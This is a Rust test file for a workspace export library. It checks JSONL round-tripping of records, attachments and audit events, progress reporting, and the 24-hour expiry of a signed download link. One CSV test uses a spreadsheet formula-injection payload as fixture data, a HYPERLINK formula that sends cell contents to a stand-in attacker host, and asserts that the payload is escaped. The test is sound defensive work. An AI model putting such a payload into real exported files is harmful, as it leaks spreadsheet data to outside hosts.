//! Workspace export: every entity, attachments, manifest, progress, link, audit event; CSV.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::sync::Arc;

use chrono::Duration;
use pdpo_audit::{AuditStore, MemoryAuditStore};
use pdpo_core::{AuditAction, AuditEvent, ChangeSet, DataStore, FixedClock, Identifier, Key, Record};
use pdpo_crypto::{SecretKey, TokenSigner};
use pdpo_export::{Compression, TOKEN_PURPOSE, WorkspaceExport, entity_csv, verify_archive};
use pdpo_testkit::{Generator, load_memory};
use serde_json::Value as J;

use crate::fixture::{clock, staff, unzip};

#[test]
fn every_record_and_attachment_round_trips_with_progress_link_and_event() {
    let loaded = load_memory(&Generator::new(40, 3)).unwrap();
    let clock = Arc::new(clock());
    let signer = TokenSigner::new(&SecretKey::from_bytes([9; 32]), clock.clone());
    let staff = staff();
    let now = pdpo_core::Clock::now(&*clock);
    let log = MemoryAuditStore::with_clock(Identifier::from_static("acme"), clock.clone());
    let events: Vec<AuditEvent> = (0..5)
        .map(|i| AuditEvent::new(AuditAction::View, staff.clone(), now).with_subject(Key::from(i)))
        .collect();
    pollster::block_on(log.append(&events)).unwrap();
    let mut calls = Vec::new();
    let done = pollster::block_on(
        WorkspaceExport::new(&staff, &*clock, &signer)
            .audit_log(&log)
            .page_size(97)
            .compression(Compression::Deflate)
            .write(&loaded.store, &loaded.blobs, Vec::new(), |p| {
                calls.push((p.records_done, p.records_total, p.attachments_done, p.bytes_written))
            }),
    )
    .unwrap();

    let schema = loaded.store.schema();
    let total: usize = schema.entities().iter().map(|e| loaded.store.count(e.name.as_str())).sum();
    assert_eq!(loaded.stats.records as usize, total);
    // Progress: monotone, ends with every record and every blob.
    assert!(calls.len() > schema.entities().len());
    assert!(calls.windows(2).all(|w| w[0].0 <= w[1].0 && w[0].3 <= w[1].3));
    let last = calls.last().unwrap();
    assert_eq!((last.0, last.1), (total as u64, Some(total as u64)));
    assert_eq!(last.2, loaded.stats.blobs);

    let (manifest, problems) = verify_archive(Cursor::new(&done.output)).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(manifest.counts["records"], total as u64);
    assert_eq!(manifest.counts["attachments"], loaded.stats.blobs);

    let files = unzip(&done.output);
    for e in schema.entities() {
        let text = std::str::from_utf8(&files[&format!("entities/{}.jsonl", e.name)]).unwrap();
        let lines: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines.len(), loaded.store.count(e.name.as_str()), "{}", e.name);
        // Compare every line with the store.
        let keys: Vec<Key> =
            lines.iter().map(|l| serde_json::from_value(l["key"].clone()).unwrap()).collect();
        let stored = pollster::block_on(loaded.store.fetch(e.name.as_str(), &keys)).unwrap();
        let by_key: BTreeMap<String, &Record> = stored.iter().map(|r| (r.key.to_string(), r)).collect();
        for (line, key) in lines.iter().zip(&keys) {
            let r = by_key[&key.to_string()];
            let want: serde_json::Map<String, serde_json::Value> =
                r.values.iter().map(|(k, v)| (k.clone(), v.to_json())).collect();
            assert_eq!(line["values"], serde_json::Value::Object(want));
        }
    }
    let month = pdpo_audit::Month::of(now);
    let audit = std::str::from_utf8(&files[&format!("audit/partitions/{month}.jsonl")]).unwrap();
    let back: Vec<AuditEvent> = audit
        .lines()
        .map(|l| serde_json::from_value(serde_json::from_str::<J>(l).unwrap()["event"].clone()).unwrap())
        .collect();
    assert_eq!(back, events);
    assert_eq!(manifest.counts["audit_entries"], 5);
    let blob_files = files.keys().filter(|k| k.starts_with("attachments/")).count();
    assert_eq!(blob_files as u64, loaded.stats.blobs);

    // One audit event with counts.
    assert_eq!(done.event.action, AuditAction::Export);
    assert_eq!(done.event.counts[&Identifier::from_static("records")], total as u64);
    assert_eq!(done.event.counts[&Identifier::from_static("attachments")], loaded.stats.blobs);

    // The link verifies for 24 hours and names this export, then expires.
    let link = done.link.unwrap();
    assert!(!format!("{link:?}").contains(&link.token));
    let granted = signer.verify(&link.token, TOKEN_PURPOSE).unwrap();
    assert_eq!(granted.resource, manifest.export_id.to_string());
    assert_eq!(link.expires_at, now + Duration::hours(24));
    clock.advance(Duration::hours(23) + Duration::minutes(59));
    assert!(signer.verify(&link.token, TOKEN_PURPOSE).is_ok());
    clock.advance(Duration::minutes(1));
    assert!(signer.verify(&link.token, TOKEN_PURPOSE).is_err());
}

#[test]
fn expected_records_skips_counting_and_is_reported() {
    let loaded = load_memory(&Generator::new(5, 1)).unwrap();
    let clock = FixedClock::new(chrono::Utc::now());
    let signer =
        TokenSigner::new(&SecretKey::from_bytes([1; 32]), Arc::new(FixedClock::new(chrono::Utc::now())));
    let staff = staff();
    let mut totals = Vec::new();
    pollster::block_on(WorkspaceExport::new(&staff, &clock, &signer).expected_records(12_345).write(
        &loaded.store,
        &loaded.blobs,
        std::io::sink(),
        |p| totals.push(p.records_total),
    ))
    .unwrap();
    assert!(totals.iter().all(|t| *t == Some(12_345)));
}

#[test]
fn entity_csv_guards_formulas() {
    let store = pdpo_core::MemoryStore::new(pdpo_testkit::schema());
    let mut cs = ChangeSet::new();
    cs.insert(
        Record::new(Identifier::new("contacts").unwrap(), Key::from(1))
            .with("id", 1)
            .with("name_en", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")
            .with("status", "@SUM(1)")
            .with("phone", "+852 9123 4567"),
    );
    pollster::block_on(store.apply(cs)).unwrap();
    let out = pollster::block_on(entity_csv(&store, "contacts", 10, Vec::new())).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut lines = text.split("\r\n");
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    assert!(header.contains(&"name_en"), "{header:?}");
    let row = lines.next().unwrap();
    assert!(row.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\""), "{row}");
    assert!(row.contains("'@SUM(1)"), "{row}");
    assert!(row.contains("'+852 9123 4567"), "{row}");
    assert!(!row.split(',').any(|c| c.starts_with('=') || c.starts_with('@') || c.starts_with('+')), "{row}");
}
